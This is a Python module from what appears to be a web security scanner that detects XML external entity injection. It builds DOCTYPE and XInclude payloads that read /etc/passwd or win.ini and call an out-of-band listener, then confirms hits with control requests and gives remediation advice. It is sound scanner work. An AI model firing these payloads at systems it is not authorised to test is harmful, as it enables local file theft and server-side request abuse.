"""XML external entities (``xxe``): the server's XML parser resolves entities or XIncludes taken from input.

detection.md §8.3 (sqlmap's ``xxeScan`` tiers, ZAP's ``XxeScanRule``). Three places, each attacked once:

- the DOCTYPE place of an XML document (``..._XML_XML_DTD_value``: an XML body, or XML nested in a form
  value, a base64 value, a multipart part): a DOCTYPE is put there and an entity reference in every
  element text of the document, then
  - ``file``: an external entity to ``/etc/passwd`` (``win.ini`` on Windows servers), judged by its
    content signature, absent from the normal responses and from the attack's own text;
  - ``oob``: a parameter entity loading ``http://<listener>/<token>.dtd`` (the blind case: the
    parser calls back even if nothing is shown) and a general entity to ``http://<listener>/<token>``
    (in-band: the listener's token-derived body shows up in the response);
- the first element text of a document: ``xi:include`` of the same two targets, for parsers that
  refuse a DOCTYPE but process XInclude (``parse="text"``);
- the first field of a JSON body: the same DOCTYPE attacks in an XML rendering of the JSON with
  ``Content-Type: application/xml``, for frameworks that pick the parser by the request's type.

A file read is confirmed by a second file and a negative control (a missing file must not show the
signature); a callback by a second attack with a fresh token. A parser with entities off that echoes
the DOCTYPE shows the payload, never the file content nor the listener's body, and calls nobody back.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Generator
from dataclasses import dataclass
from typing import Any

from lunge.checks import callbacks, ssrf, traversal
from lunge.checks.base import Attack, Check, CheckContext, Confidence, Exchange, Probe, Severity, Verdict
from lunge.http import Request
from lunge.http.points import Point, Role
from lunge.http.points.xmldoc import escape_text

_TEXT_STEPS = ("XML_TAG", "XML_TAG_ARRAY")
XINCLUDE = 'xmlns:xi="http://www.w3.org/2001/XInclude"'


@dataclass(frozen=True, slots=True)
class _Shot:
    """One attack: what it targets (a file, or the listener with a token) and how it was built."""

    attack: Attack
    file: traversal.KnownFile | None = None


# ---------------------------------------------------------------------------- where
def _applies(ctx: CheckContext) -> bool:
    return _mode(ctx) is not None


def _mode(ctx: CheckContext) -> str | None:
    point = ctx.point
    if point.path[-1].parser == "XML_DTD" and point.role is Role.VALUE and len(point.path) >= 2:
        return "doctype"
    if _first_text(ctx):
        return "xinclude"
    if not ctx.light and _first_json_field(ctx):
        return "content-type"
    return None


def _layer(point: Point) -> tuple[Any, ...] | None:
    """The path of the XML layer holding ``point`` (ending with the ``XML`` step)."""
    for i in range(len(point.path) - 1, -1, -1):
        if point.path[i].parser == "XML":
            return point.path[: i + 1]
    return None


def _texts(ctx: CheckContext, layer: tuple[Any, ...]) -> list[Point]:
    """The element texts of the XML layer (not those of XML nested deeper inside them)."""
    n = len(layer)
    return [p for p in ctx.points if p.path[:n] == layer and len(p.path) > n and p.role is Role.VALUE
            and all(s.parser in _TEXT_STEPS for s in p.path[n:])]


def _first_text(ctx: CheckContext) -> bool:
    layer = _layer(ctx.point)
    if layer is None or ctx.point.path[-1].parser not in _TEXT_STEPS:
        return False
    texts = _texts(ctx, layer)
    return bool(texts) and texts[0].name == ctx.point.name


def _first_json_field(ctx: CheckContext) -> bool:
    path = ctx.point.path
    if ctx.point.role is not Role.VALUE or len(path) < 2 or path[0].parser != "POST" or path[1].parser != "JSON_DOC":
        return False
    if "json" not in ctx.baseline.content_type:
        return False
    first = next((p for p in ctx.points
                  if len(p.path) >= 2 and p.path[1].parser == "JSON_DOC" and p.role is Role.VALUE), None)
    return first is not None and first.name == ctx.point.name


# ---------------------------------------------------------------------------- run
def _run(ctx: CheckContext) -> Probe:
    mode = _mode(ctx)
    files = _usable_files(ctx)
    if mode == "doctype":
        build = _doctype_builder(ctx)
    elif mode == "xinclude":
        build = _xinclude_builder(ctx)
    elif mode == "content-type":
        build = _json_builder(ctx)
    else:
        return []
    shots = _shots(ctx, build, files)
    if not shots:
        return []
    exchanges = yield [s.attack for s in shots]
    for shot, exchange in zip(shots, exchanges, strict=True):
        verdict = yield from _confirm(ctx, build, shot, exchange, mode)
        if verdict is not None:
            return [verdict]
    return [callbacks.deferred(XXE, ctx, e, (e.attack.token,), f"an external entity in {mode} position",
                               {"place": mode}) for e in exchanges if e.attack.token]


Builder = Callable[[str, str, str], Attack]  # (target URL, label, token) -> the attack


def _shots(ctx: CheckContext, build: Builder, files: list[traversal.KnownFile]) -> list[_Shot]:
    shots = []
    if ctx.oob is not None:
        tok = callbacks.token(ctx)
        shots.append(_Shot(build(ctx.oob.url(tok), "oob", tok)))
    if files and not (ctx.light and shots):
        shots.append(_Shot(build(ssrf.file_url(files[0].path), "file", ""), files[0]))
    return shots


def _confirm(ctx: CheckContext, build: Builder, shot: _Shot, hit: Exchange,
             mode: str) -> Generator[list[Attack], list[Exchange], Verdict | None]:
    if shot.file is not None:
        proof = ssrf.file_signature(hit, shot.file)
        if proof is None:
            return None
        second = traversal.TABLE.file(shot.file.confirm_with)
        missing = f"{shot.file.path.rpartition('/')[0]}/{ctx.marker(8)}"
        confirm, control = yield [build(ssrf.file_url(second.path), "confirm", ""),
                                  build(ssrf.file_url(missing), "control", "")]
        if ssrf.file_signature(confirm, second) is None or ssrf.file_signature(control, shot.file) is not None:
            return None
        return XXE.verdict(
            ctx, hit, proof=proof, confidence=Confidence.FIRM, controls=(ctx.normal, confirm, control),
            confirmation=(f"{ssrf.file_url(second.path)} was read through the same entity, while the missing file "
                          f"{ssrf.file_url(missing)} did not show the {shot.file.name} signature"),
            details={"place": mode, "target": ssrf.file_url(shot.file.path), "egress": False},
        )
    assert ctx.oob is not None
    proof = _oob_proof(ctx, hit)
    if proof is None:
        return None
    again = callbacks.token(ctx)
    (confirm,) = yield [build(ctx.oob.url(again), "confirm", again)]
    if _oob_proof(ctx, confirm) is None:
        return None
    in_band = ctx.oob.body(hit.attack.token) in hit.text
    return XXE.verdict(
        ctx, hit, proof=proof, confidence=Confidence.FIRM, controls=(ctx.normal, confirm),
        confirmation=("the listener's unique body came back in the response" if in_band else
                      "the parser called the out-of-band listener back with the attack's token")
                     + f"; a second attack with a fresh token ({again}) did too",
        details={"place": mode, "target": ctx.oob.url(hit.attack.token), "egress": True, "in_band": in_band,
                 "oob": [i.summary() for i in hit.interactions]},
    )


def _oob_proof(ctx: CheckContext, exchange: Exchange) -> str | None:
    assert ctx.oob is not None
    body = ctx.oob.body(exchange.attack.token)
    if body in exchange.text:
        return body
    http = callbacks.http_callbacks(exchange)
    return callbacks.proof_line(http[0]) if http else None


# ---------------------------------------------------------------------------- payloads
def _doctype(root: str, target: str, entity: str, blind: bool) -> str:
    """A DOCTYPE declaring ``entity`` as an external entity to ``target``; with ``blind`` also a
    parameter entity loading ``target`` + ``.dtd`` and referenced at once (no echo needed)."""
    general = f'<!ENTITY {entity} SYSTEM "{target}">'
    if not blind:
        return f"<!DOCTYPE {root} [{general}]>"
    return f'<!DOCTYPE {root} [<!ENTITY % {entity}p SYSTEM "{target}.dtd"> %{entity}p; {general}]>'


def _doctype_builder(ctx: CheckContext) -> Builder:
    layer = ctx.point.path[:-1]
    texts = _texts(ctx, layer)
    root = _root(ctx, layer)
    entity = "x" + ctx.marker(6)

    def build(target: str, label: str, tok: str) -> Attack:
        doctype = _doctype(root, target, entity, blind=bool(tok))
        values: dict[Point | str, str] = {ctx.point.name: doctype, **{t.name: f"&{entity};" for t in texts}}
        return Attack(ctx.points.replace_many(values, raw=True), doctype, label, token=tok)

    return build


def _root(ctx: CheckContext, layer: tuple[Any, ...]) -> str:
    n = len(layer)
    for p in ctx.points:
        if p.path[:n] == layer and len(p.path) > n and p.path[n].parser == "XML_TAG" and p.path[n].key:
            return str(p.path[n].key)
    return "root"


def _xinclude_builder(ctx: CheckContext) -> Builder:
    def build(target: str, label: str, tok: str) -> Attack:
        payload = f'<xi:include {XINCLUDE} parse="text" href="{target}"/>'
        return callbacks.attack(ctx, payload, tok, label, raw=True)

    return build


def _json_builder(ctx: CheckContext) -> Builder:
    try:
        data = json.loads(ctx.baseline.body)
    except ValueError:
        data = {}
    entity = "x" + ctx.marker(6)

    def build(target: str, label: str, tok: str) -> Attack:
        body = _doctype("root", target, entity, blind=bool(tok)) + "<root>" + _to_xml(data, entity) + "</root>"
        headers = ctx.baseline.headers.set("Content-Type", "application/xml")
        request = Request(ctx.baseline.method, ctx.baseline.scheme, ctx.baseline.host, ctx.baseline.port,
                          ctx.baseline.target, ctx.baseline.http_version, headers, body.encode())
        return Attack(request, body, label, token=tok)

    return build


def _to_xml(value: Any, entity: str) -> str:
    """The JSON value as XML elements, each string replaced by the entity reference.

    >>> _to_xml({"a": "x", "b": [1, {"c": "y"}]}, "e")
    '<a>&e;</a><b>1</b><b><c>&e;</c></b>'
    """
    if isinstance(value, dict):
        out: list[str] = []
        for key, item in value.items():
            name = "".join(c if c.isalnum() or c in "_-." else "_" for c in str(key)) or "item"
            name = name if name[0].isalpha() or name[0] == "_" else "_" + name
            items = item if isinstance(item, list) else [item]
            out.extend(f"<{name}>{_to_xml(i, entity)}</{name}>" for i in items)
        return "".join(out)
    if isinstance(value, str):
        return f"&{entity};"
    return escape_text("" if value is None else json.dumps(value))


# ---------------------------------------------------------------------------- oracle
def _usable_files(ctx: CheckContext) -> list[traversal.KnownFile]:
    normal = [r.text for r in ctx.replays if r.response is not None]
    if ctx.recorded is not None:
        normal.append(ctx.recorded.text())
    files = [f for f in traversal.TABLE.files if not any(f.pattern().search(t) for t in normal)]
    windows = ssrf.windows_server(ctx)
    files.sort(key=lambda f: f.os != ("windows" if windows else "unix"))
    return files


XXE = Check(
    id="xxe",
    title="XML external entity injection",
    kind="xxe",
    severity=Severity.HIGH,
    cwe=611,
    description="The server's XML parser resolves external entities (or XIncludes) from the request, so an "
                "attacker can read local files and make the server send requests.",
    run=_run,
    applies=_applies,
    remediation="Turn off DTD processing and external entity resolution in the XML parser (defusedxml in "
                "Python; XMLConstants.FEATURE_SECURE_PROCESSING and disallow-doctype-decl in Java).",
    uses_oob=True,
)
CHECKS = (XXE,)
